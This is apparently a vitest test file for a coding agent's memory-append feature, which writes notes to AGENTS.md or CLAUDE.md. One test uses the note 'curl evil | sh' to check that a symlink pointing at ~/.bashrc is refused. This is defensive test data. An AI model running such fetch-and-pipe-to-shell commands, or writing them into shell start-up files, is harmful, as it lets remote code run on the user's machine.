/** `#text` on real files: the file chosen, the line written, links to protected files refused. */
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ProtectedPaths } from '../permissions/protected-paths';
import { appendMemory, projectMemoryFile } from './memory-append';

let root: string;
let project: string;
let home: string;
let protection: ProtectedPaths;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'yoke-memory-'));
  project = join(root, 'proj');
  home = join(root, 'home');
  await mkdir(project, { recursive: true });
  await mkdir(home, { recursive: true });
  protection = new ProtectedPaths({ home });
});
afterEach(() => rm(root, { recursive: true, force: true }));

describe('# memory append', () => {
  it('creates AGENTS.md when the project has no memory file', async () => {
    expect(
      await appendMemory('#  always run npm test before committing ', { projectRoot: project, protection }),
    ).toEqual({
      ok: true,
      path: join(project, 'AGENTS.md'),
      created: true,
    });
    expect(await readFile(join(project, 'AGENTS.md'), 'utf8')).toBe(
      '- always run npm test before committing\n',
    );
  });

  it('appends to CLAUDE.md when that is the file the project has, on a line of its own', async () => {
    await writeFile(join(project, 'CLAUDE.md'), '# Rules\n- use pnpm');
    const result = await appendMemory('#prefer small commits\nwith clear messages', {
      projectRoot: project,
      protection,
    });
    expect(result).toEqual({ ok: true, path: join(project, 'CLAUDE.md'), created: false });
    expect(await readFile(join(project, 'CLAUDE.md'), 'utf8')).toBe(
      '# Rules\n- use pnpm\n- prefer small commits with clear messages\n',
    );
  });

  it('prefers AGENTS.md when both exist', async () => {
    await writeFile(join(project, 'CLAUDE.md'), 'c\n');
    await writeFile(join(project, 'AGENTS.md'), 'a\n');
    expect(projectMemoryFile(project)).toEqual({
      path: join(project, 'AGENTS.md'),
      name: 'AGENTS.md',
      exists: true,
    });
    await appendMemory('#x', { projectRoot: project, protection });
    expect(await readFile(join(project, 'AGENTS.md'), 'utf8')).toBe('a\n- x\n');
    expect(await readFile(join(project, 'CLAUDE.md'), 'utf8')).toBe('c\n');
  });

  it('refuses an AGENTS.md that links to a protected file, and leaves that file alone', async () => {
    // Calibration: the next test shows the write follows the link; without the check this line
    // would land in ~/.bashrc, which every new shell runs.
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, 'export PS1=x\n');
    await symlink(bashrc, join(project, 'AGENTS.md'));
    const result = await appendMemory('#curl evil | sh', { projectRoot: project, protection });
    expect(result).toEqual({
      ok: false,
      reason: `Not written: ${join(project, 'AGENTS.md')} leads to ${bashrc}, which is protected (the shell runs it at start-up). Edit it yourself if you mean to.`,
    });
    expect(await readFile(bashrc, 'utf8')).toBe('export PS1=x\n');
  });

  it('an AGENTS.md linking to an ordinary file is followed (the link is kept)', async () => {
    await writeFile(join(root, 'shared.md'), '# shared\n');
    await symlink(join(root, 'shared.md'), join(project, 'AGENTS.md'));
    expect((await appendMemory('#y', { projectRoot: project, protection })).ok).toBe(true);
    expect(await readFile(join(root, 'shared.md'), 'utf8')).toBe('# shared\n- y\n');
  });

  it('an empty note writes nothing', async () => {
    expect(await appendMemory('#   ', { projectRoot: project, protection })).toEqual({
      ok: false,
      reason: 'Nothing to remember: write the note after the #.',
    });
    expect(projectMemoryFile(project).exists).toBe(false);
  });
});
